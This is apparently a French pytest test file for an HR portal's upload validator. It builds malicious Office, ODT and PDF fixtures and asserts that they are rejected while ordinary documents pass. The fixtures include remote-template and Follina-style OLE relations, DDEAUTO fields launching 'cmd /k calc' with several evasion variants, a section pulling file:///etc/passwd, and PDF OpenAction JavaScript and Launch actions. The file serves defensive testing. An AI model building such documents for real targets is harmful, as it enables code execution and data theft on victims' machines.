"""Les pièces jointes sont reconnues par leur contenu, pas par leur nom."""

import io
import struct
import zipfile
import zlib

import pytest
from pypdf import PdfWriter

from rh_tpe.dossiers import fichiers
from tests.dossiers.outils import PDF_MINIMAL, pdf_d_une_page


def archive(parties: dict[str, str | bytes]) -> bytes:
    """Une archive ZIP qui contient ces parties, dans cet ordre."""
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w") as zip_:
        for nom, contenu in parties.items():
            zip_.writestr(nom, contenu)
    return tampon.getvalue()


DOCX_MINIMAL = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
ODT_MINIMAL = {
    "mimetype": "application/vnd.oasis.opendocument.text",
    "content.xml": "<office:document-content/>",
}


def docx() -> bytes:
    return archive(DOCX_MINIMAL)


def odt() -> bytes:
    return archive(ODT_MINIMAL)


def docm_renomme() -> bytes:
    """Un document Word avec macros (.docm) renommé en .docx."""
    return archive(
        {
            **DOCX_MINIMAL,
            "[Content_Types].xml": (
                '<Types><Override PartName="/word/document.xml" ContentType="application/'
                'vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
            ),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0",
        }
    )


def odt_avec_basic() -> bytes:
    return archive({**ODT_MINIMAL, "Basic/Standard/Module1.xml": "<script:module/>"})


def odt_avec_texte_brut(contenu: str) -> bytes:
    return archive({**ODT_MINIMAL, "content.xml": contenu})


def docx_avec_partie(nom: str, contenu: str | bytes) -> bytes:
    return archive({**DOCX_MINIMAL, nom: contenu})


def docx_avec_relation(relation: str, partie: str = "word/_rels/settings.xml.rels") -> bytes:
    """Un DOCX dont une partie porte la relation donnée."""
    return docx_avec_partie(
        partie,
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
        f'package/2006/relationships">{relation}</Relationships>',
    )


# Un modèle .dotm distant, chargé par Word à l'ouverture (injection de modèle).
MODELE_DISTANT = docx_avec_relation(
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="https://exemple.invalid/modele.dotm" '
    'TargetMode="External"/>'
)
# Un objet OLE lié vers un serveur (l'attaque « Follina », CVE-2022-30190), guillemets simples.
OBJET_DISTANT = docx_avec_relation(
    "<Relationship Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
    "relationships/oleObject' Target='http://exemple.invalid/x.html!' TargetMode='External'/>",
    partie="word/_rels/document.xml.rels",
)
# Un lien hypertexte vers un site est ordinaire.
LIEN_HYPERTEXTE = docx_avec_relation(
    '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/hyperlink" Target="https://travail-emploi.gouv.fr" TargetMode="External"/>',
    partie="word/_rels/document.xml.rels",
)


_MODELE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/attachedTemplate" Target="{cible}" TargetMode="{mode}"/></Relationships>'
)
# Ce qu'un simple repérage d'octets laissait passer (revue du 26 novembre 2026).
DETOURNEMENTS = {
    "chevron dans la cible": docx_avec_partie(
        "word/_rels/settings.xml.rels",
        _MODELE.format(cible="https://x.invalid/a>b.dotm", mode="External").encode(),
    ),
    "référence de caractère": docx_avec_partie(
        "word/_rels/settings.xml.rels",
        _MODELE.format(cible="https://x.invalid/m.dotm", mode="&#69;xternal").encode(),
    ),
    "UTF-16": docx_avec_partie(
        "word/_rels/settings.xml.rels",
        (
            '<?xml version="1.0" encoding="UTF-16"?>'
            + _MODELE.format(cible="https://x.invalid/m.dotm", mode="External")
        ).encode("utf-16"),
    ),
    "nom en majuscules": docx_avec_partie(
        "word/_rels/settings.xml.RELS",
        _MODELE.format(cible="https://x.invalid/m.dotm", mode="External").encode(),
    ),
    "relation après un mégaoctet": docx_avec_partie(
        "word/_rels/settings.xml.rels",
        _MODELE.format(cible="https://x.invalid/m.dotm", mode="External")
        .replace("<Relationship ", "<!--" + "x" * 1_100_000 + "--><Relationship ")
        .encode(),
    ),
    "XML mal formé": docx_avec_partie("word/_rels/settings.xml.rels", b"<Relationships><oups"),
    "entité": docx_avec_partie(
        "word/_rels/settings.xml.rels",
        b'<!DOCTYPE r [<!ENTITY e "External">]>'
        + _MODELE.format(cible="https://x.invalid/m.dotm", mode="&e;").encode(),
    ),
}


@pytest.mark.parametrize("contenu", DETOURNEMENTS.values(), ids=DETOURNEMENTS.keys())
def test_un_renvoi_exterieur_deguise_est_refuse(contenu):
    assert fichiers.a_du_contenu_actif(io.BytesIO(contenu)) is True
    assert fichiers.format_reconnu(io.BytesIO(contenu)) is None


_RELATION_INTERNE = (
    '<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{genre}" Target="{cible}"/>'
)
# Rangés dans l'archive, mais confiés par Word à un autre programme ou convertis à l'ouverture
# (relevé, laissé de côté, par la revue de sécurité du 26 novembre 2026).
CONTENUS_INCORPORES = {
    # Un « Package » OLE lance le programme qu'il contient d'un double clic.
    "objet OLE incorporé": archive(
        {
            **DOCX_MINIMAL,
            "word/_rels/document.xml.rels": (
                "<Relationships>"
                + _RELATION_INTERNE.format(genre="oleObject", cible="embeddings/oleObject1.bin")
                + "</Relationships>"
            ),
            "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        }
    ),
    "morceau RTF fondu (altChunk)": docx_avec_relation(
        _RELATION_INTERNE.format(genre="aFChunk", cible="afchunk.rtf"),
        partie="word/_rels/document.xml.rels",
    ),
    "morceau MHT fondu, type en minuscules": docx_avec_relation(
        _RELATION_INTERNE.format(genre="afchunk", cible="afchunk.mht"),
        partie="word/_rels/document.xml.rels",
    ),
    "contrôle ActiveX": docx_avec_relation(
        _RELATION_INTERNE.format(genre="control", cible="activeX/activeX1.xml"),
        partie="word/_rels/document.xml.rels",
    ),
    "ActiveX sans relation": docx_avec_partie("word/activeX/activeX1.bin", b"\xd0\xcf"),
    "objet OLE d'un ODT": odt_avec_texte_brut(
        '<office:document-content><draw:frame><draw:object-ole xlink:href="./Object 1"/>'
        "</draw:frame></office:document-content>"
    ),
    "applet d'un ODT": odt_avec_texte_brut(
        '<office:document-content><draw:applet xlink:href="x.jar"/></office:document-content>'
    ),
}


@pytest.mark.parametrize("contenu", CONTENUS_INCORPORES.values(), ids=CONTENUS_INCORPORES.keys())
def test_un_contenu_incorpore_qu_un_autre_programme_executerait_est_refuse(contenu):
    assert fichiers.a_du_contenu_actif(io.BytesIO(contenu)) is True
    assert fichiers.format_reconnu(io.BytesIO(contenu)) is None


def test_un_classeur_et_une_image_incorpores_sont_acceptes():
    contenu = archive(
        {
            **DOCX_MINIMAL,
            "word/_rels/document.xml.rels": (
                "<Relationships>"
                + _RELATION_INTERNE.format(
                    genre="package", cible="embeddings/Microsoft_Excel_Worksheet.xlsx"
                )
                + _RELATION_INTERNE.format(genre="image", cible="media/image1.png")
                + "</Relationships>"
            ),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": b"PK\x03\x04",
            "word/media/image1.png": b"\x89PNG",
        }
    )
    assert fichiers.format_reconnu(io.BytesIO(contenu)) == fichiers.DOCX


def docx_aux_mille_parties(parties: int) -> bytes:
    return archive(
        {**DOCX_MINIMAL, **{f"word/media/vide{numero}.bin": b"" for numero in range(parties)}}
    )


def zip_quelconque() -> bytes:
    return archive({"virus.exe": "MZ"})


@pytest.mark.parametrize(
    ("contenu", "attendu"),
    [
        (PDF_MINIMAL, fichiers.PDF),
        (b"%PDF-1.7\n...", None),
        (b"\x89PNG\r\n\x1a\n" + b"\0" * 20, fichiers.PNG),
        (b"\xff\xd8\xff\xe0" + b"\0" * 20, fichiers.JPEG),
        (docx(), fichiers.DOCX),
        (odt(), fichiers.ODT),
        (zip_quelconque(), None),
        (docm_renomme(), None),
        (odt_avec_basic(), None),
        (MODELE_DISTANT, None),
        (OBJET_DISTANT, None),
        (LIEN_HYPERTEXTE, fichiers.DOCX),
        (docx_aux_mille_parties(fichiers.PARTIES_MAX - 2), fichiers.DOCX),
        (docx_aux_mille_parties(fichiers.PARTIES_MAX - 1), None),
        (b"PK\x03\x04 archive tronquee", None),
        (b"<html><script>alert(1)</script></html>", None),
        (b"MZ\x90\x00", None),
        (b"", None),
    ],
)
def test_le_format_vient_du_contenu(contenu, attendu):
    assert fichiers.format_reconnu(io.BytesIO(contenu)) == attendu


@pytest.mark.parametrize(
    ("contenu", "attendu"),
    [
        (docm_renomme(), True),
        (odt_avec_basic(), True),
        (MODELE_DISTANT, True),
        (OBJET_DISTANT, True),
        (LIEN_HYPERTEXTE, False),
        (docx(), False),
        (odt(), False),
    ],
)
def test_les_macros_et_les_renvois_exterieurs_sont_reperes(contenu, attendu):
    assert fichiers.a_du_contenu_actif(io.BytesIO(contenu)) is attendu


def test_un_vrai_docx_du_portail_n_a_pas_de_macros():
    from rh_tpe.modeles.catalogue import type_document
    from rh_tpe.modeles.composition import composer
    from rh_tpe.modeles.docx import rendre_docx

    _nom, _mime, contenu = rendre_docx(composer("cdi", type_document("cdi").exemple).document)
    assert fichiers.a_du_contenu_actif(io.BytesIO(contenu)) is False
    assert fichiers.format_reconnu(io.BytesIO(contenu)) == fichiers.DOCX


# --- Champs Word -------------------------------------------------------------------------------

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _champ(*instructions: str, resultat: str = "") -> str:
    """Un champ Word en plusieurs runs : début, morceaux d'instruction (un champ imbriqué s'il
    commence par « < »), séparateur, fin."""
    runs = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    runs += "".join(
        morceau if morceau.startswith("<") else f"<w:r><w:instrText>{morceau}</w:instrText></w:r>"
        for morceau in instructions
    )
    runs += '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    return runs + resultat + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def docx_avec_corps(corps: str, partie: str = "word/document.xml") -> bytes:
    return archive(
        {
            **DOCX_MINIMAL,
            partie: f"<w:document {W}><w:body><w:p>{corps}</w:p></w:body></w:document>",
        }
    )


CHAMPS_ACTIFS = {
    # L'attaque « DDE » : Word propose de lancer le programme à l'ouverture, sans macro.
    "DDEAUTO": docx_avec_corps(_champ('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
    "DDE coupé en deux runs": docx_avec_corps(_champ(" DD", 'EAUTO cmd "/k calc"')),
    "dde en minuscules": docx_avec_corps(_champ('dde cmd "/k calc"')),
    "champ simple": docx_avec_corps(
        '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;\\\\serveur\\p.png&quot; \\d"/>'
    ),
    "image distante": docx_avec_corps(_champ('INCLUDEPICTURE "https://x.invalid/p.png" \\d')),
    "texte distant": docx_avec_corps(_champ('INCLUDETEXT "https://x.invalid/t.docx"')),
    "objet lié": docx_avec_corps(_champ('LINK Excel.Sheet.12 "\\\\serveur\\c.xlsx" ""')),
    "dans un en-tête": docx_avec_corps(_champ("DDEAUTO cmd"), partie="word/header1.xml"),
    "nom calculé par un champ imbriqué": docx_avec_corps(
        _champ(" ", _champ("QUOTE 68 68 69 65 85 84 79"), ' cmd "/k calc"')
    ),
    "autre préfixe": archive(
        {
            **DOCX_MINIMAL,
            "word/document.xml": (
                '<x:document xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/'
                'main"><x:body><x:p><x:fldSimple x:instr="DDEAUTO cmd"/></x:p></x:body>'
                "</x:document>"
            ),
        }
    ),
    "UTF-16": archive(
        {
            **DOCX_MINIMAL,
            "word/document.xml": (
                f'<?xml version="1.0" encoding="UTF-16"?><w:document {W}><w:body><w:p>'
                f"{_champ('DDEAUTO cmd')}</w:p></w:body></w:document>"
            ).encode("utf-16"),
        }
    ),
    "XML mal formé": docx_avec_corps("<w:r><oups"),
    # Word ouvre le document que désigne _rels/.rels, où qu'il soit rangé ; word/document.xml
    # n'est qu'un leurre.
    "document principal hors de word/": archive(
        {
            **DOCX_MINIMAL,
            "_rels/.rels": (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships/officeDocument" Target="x/principal.xml"/>'
                "</Relationships>"
            ),
            "x/principal.xml": (
                f"<w:document {W}><w:body><w:p>{_champ('DDEAUTO cmd')}</w:p></w:body></w:document>"
            ),
        }
    ),
}


@pytest.mark.parametrize("contenu", CHAMPS_ACTIFS.values(), ids=CHAMPS_ACTIFS.keys())
def test_un_champ_word_qui_lance_un_programme_ou_charge_un_fichier_est_refuse(contenu):
    examen = fichiers.examiner(io.BytesIO(contenu))

    assert (examen.format, examen.refus) == (None, "macros")


def test_les_champs_ordinaires_d_un_document_sont_acceptes():
    """Numéros de page, table des matières (et ses renvois imbriqués), liens, publipostage."""
    table = _champ(
        ' TOC \\o "1-3" ',
        resultat=_champ(" PAGEREF _Toc1 \\h ", resultat="<w:r><w:t>2</w:t></w:r>"),
    )
    corps = (
        _champ(" PAGE ")
        + table
        + _champ(' HYPERLINK "https://www.legifrance.gouv.fr/" ')
        + _champ(" IF ", _champ(" MERGEFIELD nom "), ' = "" "" "Madame" ')
        + '<w:fldSimple w:instr=" NUMPAGES "/>'
    )

    assert fichiers.examiner(io.BytesIO(docx_avec_corps(corps))) == fichiers.Examen(fichiers.DOCX)


ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def odt_avec_texte(texte: str, partie: str = "content.xml") -> bytes:
    return archive(
        {
            **ODT_MINIMAL,
            partie: f"<office:document-content {ODF}><office:body><office:text>{texte}"
            "</office:text></office:body></office:document-content>",
        }
    )


RENVOIS_ODT = {
    "lien DDE": odt_avec_texte(
        '<text:dde-connection-decls><text:dde-connection-decl text:name="x" '
        'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
        "</text:dde-connection-decls>"
    ),
    "image distante": odt_avec_texte(
        '<text:p><draw:frame><draw:image xlink:href="\\\\serveur\\p.png"/></draw:frame></text:p>'
    ),
    "image en http": odt_avec_texte(
        '<text:p><draw:frame><draw:image xlink:href="https://x.invalid/p.png"/></draw:frame>'
        "</text:p>"
    ),
    "section reprise d'un autre fichier": odt_avec_texte(
        '<text:section text:name="s"><text:section-source xlink:href="file:///etc/passwd"/>'
        "</text:section>"
    ),
    "script à l'ouverture": odt_avec_texte(
        '<office:event-listeners><script:event-listener script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:pydoc.py$tempfilepager?location=share"/>'
        "</office:event-listeners>",
        partie="styles.xml",
    ),
    "lien qui lance une macro": odt_avec_texte(
        '<text:p><text:a xlink:href="vnd.sun.star.script:Standard.M.Main?location=application">'
        "ici</text:a></text:p>"
    ),
}


@pytest.mark.parametrize("contenu", RENVOIS_ODT.values(), ids=RENVOIS_ODT.keys())
def test_un_odt_qui_lance_un_programme_ou_charge_un_fichier_est_refuse(contenu):
    examen = fichiers.examiner(io.BytesIO(contenu))

    assert (examen.format, examen.refus) == (None, "macros")


def test_un_odt_avec_image_incorporee_et_lien_hypertexte_est_accepte():
    contenu = odt_avec_texte(
        '<text:p><draw:frame><draw:image xlink:href="Pictures/photo.png"/></draw:frame>'
        '<text:a xlink:href="https://www.legifrance.gouv.fr/">Légifrance</text:a>'
        '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>'
    )

    assert fichiers.examiner(io.BytesIO(contenu)) == fichiers.Examen(fichiers.ODT)


def test_un_texte_word_trop_long_pour_etre_lu_est_refuse():
    corps = "<w:r><w:t>" + "x" * fichiers.TEXTE_MAX + "</w:t></w:r>"

    examen = fichiers.examiner(io.BytesIO(docx_avec_corps(corps)))

    assert (examen.format, examen.refus) == (None, "macros")


# --- PDF ---------------------------------------------------------------------------------------

JAVASCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"


def pdf_a_flux_d_objets(objet_cache: bytes, renvoi: bytes) -> bytes:
    """Un PDF 1.5 dont l'objet 4 est rangé, compressé, dans un flux d'objets (objet 5) et
    désigné par une table des renvois elle-même en flux (objet 6) : le nom de l'objet caché
    n'apparaît nulle part en clair dans le fichier. `renvoi` s'ajoute au catalogue."""
    corps_cache = b"4 0 " + objet_cache
    flux = zlib.compress(corps_cache)
    objets = {
        1: b"<</Type/Catalog/Pages 2 0 R" + renvoi + b">>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(flux)
        + flux
        + b"\nendstream",
    }
    fichier = b"%PDF-1.5\n"
    positions = {}
    for numero, corps in objets.items():
        positions[numero] = len(fichier)
        fichier += b"%d 0 obj\n%s\nendobj\n" % (numero, corps)
    positions[6] = len(fichier)
    lignes = [struct.pack(">BIH", 0, 0, 65535)]
    for numero in range(1, 7):
        if numero == 4:
            lignes.append(struct.pack(">BIH", 2, 5, 0))
        else:
            lignes.append(struct.pack(">BIH", 1, positions[numero], 0))
    table = b"".join(lignes)
    fichier += (
        b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % positions[6]
    )
    return fichier


def pdf_chiffre(mot_de_passe_d_ouverture: str) -> bytes:
    redacteur = PdfWriter()
    redacteur.add_blank_page(200, 200)
    redacteur.encrypt(mot_de_passe_d_ouverture, "proprietaire", algorithm="AES-256")
    tampon = io.BytesIO()
    redacteur.write(tampon)
    return tampon.getvalue()


@pytest.mark.parametrize(
    "contenu",
    [
        pytest.param(pdf_d_une_page(b"/OpenAction" + JAVASCRIPT), id="javascript-a-l-ouverture"),
        pytest.param(
            pdf_d_une_page(b"/OpenAction 4 0 R", b"", b"<</S/J#61vaScript/J#53(app.alert(1))>>"),
            id="noms-en-hexadecimal",
        ),
        pytest.param(
            pdf_d_une_page(
                b"/Names<</JavaScript 4 0 R>>", b"", b"<</Names[(a) 5 0 R]>>", JAVASCRIPT
            ),
            id="javascript-du-document",
        ),
        pytest.param(pdf_d_une_page(b"", b"/AA<</O " + JAVASCRIPT + b">>"), id="page-ouverte"),
        pytest.param(
            pdf_d_une_page(
                b"", b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(calc.exe)>>>>]"
            ),
            id="lancer-un-programme",
        ),
        pytest.param(
            pdf_d_une_page(
                b"",
                b"/Annots[<</Subtype/Link/Rect[0 0 9 9]"
                b"/A<</S/GoToR/F(\\\\hote\\p.pdf)/D[0/Fit]>>>>]",
            ),
            id="fichier-distant",
        ),
        pytest.param(
            pdf_d_une_page(
                b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>",
                b"",
                b"<</Type/Filespec/F(a.exe)>>",
            ),
            id="fichier-incorpore",
        ),
        pytest.param(pdf_d_une_page(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"", b"<<>>"), id="xfa"),
        pytest.param(pdf_a_flux_d_objets(JAVASCRIPT, b"/OpenAction 4 0 R"), id="flux-d-objets"),
        pytest.param(
            pdf_d_une_page(b"/OpenAction<</S/URI/URI(https://x.invalid/pixel)>>"),
            id="adresse-ouverte-a-l-ouverture",
        ),
        pytest.param(
            pdf_d_une_page(
                b"/OpenAction 4 0 R",
                b"",
                b"<</S/GoTo/D[3 0 R/Fit]/Next[<</S/URI/URI(https://x.invalid)>>]>>",
            ),
            id="adresse-apres-un-renvoi-interne",
        ),
        pytest.param(
            pdf_d_une_page(b"", b"/AA<</O<</S/URI/URI(https://x.invalid/pixel)>>>>"),
            id="adresse-a-l-ouverture-de-la-page",
        ),
        pytest.param(
            pdf_d_une_page(
                b"",
                b"/Annots[<</Subtype/Link/Rect[0 0 9 9]"
                b"/AA<</E<</S/URI/URI(https://x.invalid)>>>>>>]",
            ),
            id="adresse-au-survol",
        ),
    ],
)
def test_un_pdf_qui_fait_plus_que_s_afficher_est_refuse(contenu):
    examen = fichiers.examiner(io.BytesIO(contenu))

    assert examen.format == fichiers.PDF
    assert examen.contenu_actif is True
    assert fichiers.format_reconnu(io.BytesIO(contenu)) is None


def test_le_javascript_du_flux_d_objets_n_est_pas_en_clair():
    contenu = pdf_a_flux_d_objets(JAVASCRIPT, b"/OpenAction 4 0 R")

    assert b"JavaScript" not in contenu
    assert fichiers.a_du_contenu_actif(io.BytesIO(contenu)) is True


@pytest.mark.parametrize(
    "contenu",
    [
        pytest.param(PDF_MINIMAL, id="page-blanche"),
        pytest.param(
            pdf_d_une_page(
                b"/OpenAction[3 0 R/Fit]",
                b"/Annots[<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://www.service-public.fr)>>>>]",
            ),
            id="lien-et-ouverture-a-la-page",
        ),
        pytest.param(pdf_a_flux_d_objets(b"<</Title(Contrat)>>", b""), id="flux-d-objets-sage"),
        pytest.param(pdf_chiffre(""), id="chiffre-sans-mot-de-passe-d-ouverture"),
    ],
)
def test_un_pdf_ordinaire_est_accepte(contenu):
    assert fichiers.examiner(io.BytesIO(contenu)) == fichiers.Examen(fichiers.PDF)
    assert fichiers.format_reconnu(io.BytesIO(contenu)) == fichiers.PDF


def test_un_pdf_a_mot_de_passe_d_ouverture_est_refuse_comme_tel():
    examen = fichiers.examiner(io.BytesIO(pdf_chiffre("secret")))

    assert (examen.protege, examen.contenu_actif, examen.accepte) == (True, False, False)


def test_un_pdf_tronque_est_illisible():
    examen = fichiers.examiner(io.BytesIO(PDF_MINIMAL[: len(PDF_MINIMAL) // 2]))

    assert (examen.format, examen.illisible, examen.accepte) == (fichiers.PDF, True, False)


def test_un_pdf_aux_objets_innombrables_n_est_pas_parcouru_jusqu_au_bout(monkeypatch):
    contenu = pdf_d_une_page(b"/Extra[" + b"0 " * 60 + b"]")
    assert fichiers.examiner(io.BytesIO(contenu)).accepte

    monkeypatch.setattr(fichiers, "OBJETS_PDF_MAX", 50)

    assert fichiers.a_du_contenu_actif(io.BytesIO(contenu)) is True


def test_un_vrai_pdf_du_portail_est_accepte():
    from rh_tpe.modeles.catalogue import type_document
    from rh_tpe.modeles.composition import composer
    from rh_tpe.modeles.pdf import rendre_pdf

    _nom, _mime, contenu = rendre_pdf(composer("cdi", type_document("cdi").exemple).document)
    assert fichiers.examiner(io.BytesIO(contenu)) == fichiers.Examen(fichiers.PDF)


# --- Budget de lecture des archives ------------------------------------------------------------


def relations_de(taille: int) -> str:
    """Une partie de relations ordinaires (liens internes) d'à peu près `taille` octets."""
    relation = '<Relationship Id="r" Type="t" Target="media/image.png"/>'
    return "<Relationships>" + relation * (taille // len(relation)) + "</Relationships>"


def test_un_document_aux_relations_nombreuses_mais_ordinaires_est_accepte():
    contenu = docx_avec_partie("word/_rels/document.xml.rels", relations_de(900_000))

    assert fichiers.examiner(io.BytesIO(contenu)) == fichiers.Examen(fichiers.DOCX)


def test_au_dela_du_budget_de_lecture_l_archive_est_refusee_sans_etre_lue_plus_loin():
    """Trois parties de 900 ko dépassent les 2 Mo lus pour toute l'archive : refusée, comme une
    partie illisible. Sans ce budget, 2 000 parties pareilles, quelques Mo une fois compressées,
    coûtaient des minutes de calcul à chaque contrôle."""
    parties = {f"p{numero}/_rels/a.rels": relations_de(900_000) for numero in range(3)}
    contenu = archive({**DOCX_MINIMAL, **parties})

    examen = fichiers.examiner(io.BytesIO(contenu))

    assert (examen.format, examen.contenu_actif) == (None, True)


@pytest.mark.parametrize(
    ("nom", "extension", "attendu"),
    [
        ("relevé.pdf", ".pdf", "relevé.pdf"),
        ("relevé.bat", ".pdf", "relevé.pdf"),
        ("rapport.pdf.html", ".pdf", "rapport.pdf.pdf"),
        ("photo.jpeg", ".jpg", "photo.jpg"),
        ("contrat", ".docx", "contrat.docx"),
        ("", ".odt", "fichier.odt"),
        ("a" * 300 + ".exe", ".pdf", "a" * 196 + ".pdf"),
    ],
)
def test_le_nom_enregistre_prend_l_extension_du_format_reconnu(nom, extension, attendu):
    assert fichiers.nom_sur(nom, extension) == attendu
